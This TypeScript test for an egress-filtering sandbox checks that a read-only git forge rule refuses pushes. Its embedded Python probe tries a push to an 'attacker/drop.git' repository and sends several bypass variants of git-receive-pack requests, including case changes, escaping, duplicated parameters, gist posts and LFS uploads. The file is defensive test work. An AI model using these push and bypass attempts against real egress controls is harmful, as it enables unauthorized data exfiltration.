// A push through a rule that is for reading. Source: clawker #230/#327; EGRESS P65; gitprotocol-http(5).
import { expect } from 'vitest';
import { forEachTier, needsProgram, outcomes } from '../support/attack.ts';
import { EgressBox, GIT } from '../support/egress-box.ts';

forEachTier(
  'a forge that is for reading takes no push, whoever asks',
  async (tier) => {
    await using box = new EgressBox(tier, {
      script: (request, response) => {
        if (!request.url.includes('info/refs')) return void response.end('the origin');
        response.setHeader('Content-Type', 'application/x-git-upload-pack-advertisement');
        response.end('001e# service=git-upload-pack\n00000000');
      },
    });
    const result = await box.probe(`
import subprocess
def git(*words): return subprocess.run(['git', *words], capture_output=True, text=True, timeout=20)
git('init', '-q', 'repo'); git('-C', 'repo', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'x')
done = git('-C', 'repo', 'push', f'https://{GIT}/attacker/drop.git', 'HEAD:refs/heads/x')
report('push', f'{done.returncode} {done.stderr[-200:]!r}')
report('fetch', git('ls-remote', f'https://{GIT}/org/repo.git').returncode)
for name, method, target in (('service', 'GET', '/o/r.git/info/refs?service=git-receive-pack'), ('pack', 'POST', '/o/r.git/git-receive-pack'),
        ('case', 'GET', '/o/r.git/info/refs?SERVICE=git-receive-pack'), ('both', 'GET', '/o/r.git/info/refs?service=git-upload-pack&service=git-receive-pack'),
        ('escaped', 'GET', '/o/r.git/info/refs?service=git%2Dreceive-pack'), ('none', 'GET', '/o/r.git/info/refs'), ('other', 'POST', '/api/v3/gists'),
        ('semicolon', 'GET', '/o/r.git/info/refs?service=git-upload-pack;service=git-receive-pack'), ('lfs', 'POST', '/o/r.git/info/lfs/objects/batch')):
    ask(name, method, target, (), host=GIT)
control()
`);
    const seen = outcomes(result);
    expect(seen['push']).toMatch(/^(?!0 ).*403/);
    expect(seen['fetch']).toBe('0');
    const refused = ['service', 'pack', 'case', 'both', 'escaped', 'none', 'other', 'semicolon', 'lfs'];
    for (const name of refused)
      expect([name, seen[name]]).toEqual([name, expect.stringMatching(/^40[03] git/)]);
    expect(seen['control']).toMatch(/^200/);
    expect(box.arrived.filter((one) => one.headers.host === GIT).map((one) => one.url)).toEqual([
      '/org/repo.git/info/refs?service=git-upload-pack',
    ]);
    expect(box.refusals().length).toBeGreaterThan(refused.length);
  },
  [needsProgram('git')],
);
